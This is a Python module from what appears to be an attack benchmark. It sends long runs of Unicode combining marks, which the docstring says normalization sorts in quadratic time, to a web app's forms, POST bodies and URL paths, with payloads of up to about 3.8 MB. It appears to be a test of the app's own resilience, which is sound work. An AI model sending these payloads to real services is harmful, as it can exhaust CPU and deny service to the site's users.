"""Long runs of combining marks, which Unicode normalization orders in quadratic time, in a form and in an address."""

from __future__ import annotations

from collections.abc import Iterator
from urllib.parse import quote

from bench.attacks.target import Target

_PAIR = "\u0301\u0327"


def run(target: Target) -> Iterator[int]:
    """Send 80 kB to 3.8 MB of marks in a field, without a token and with one, and as many as fit in an address."""
    in_address = quote("a" + _PAIR * 250)
    slug = target.place.slug
    yield from target.sent(
        [
            *(target.post(f"part-opening=a{_PAIR * count}".encode()) for count in (20_000, 60_000, 950_000)),
            target.form([("part-opening", "a" + _PAIR * 9_000), ("do", "check")]),
            target.form([("title", "a" + _PAIR * 9_000), ("do", "check")], target.path + "/own"),
            target.form([("text", "a" + _PAIR * 9_000)], f"/newspapers/{_newspaper_id(target)}/correction"),
            target.get(f"/newspapers/?name={in_address}"),
            target.form([("place", "a" + _PAIR * 9_000)], "/newspapers/"),
            target.get(f"/s/{in_address}"),
            target.get(f"/{slug}/letters/{in_address}"),
        ]
    )


def _newspaper_id(target: Target) -> str:
    return target.place.services.store.newspapers.register().with_card[0].id
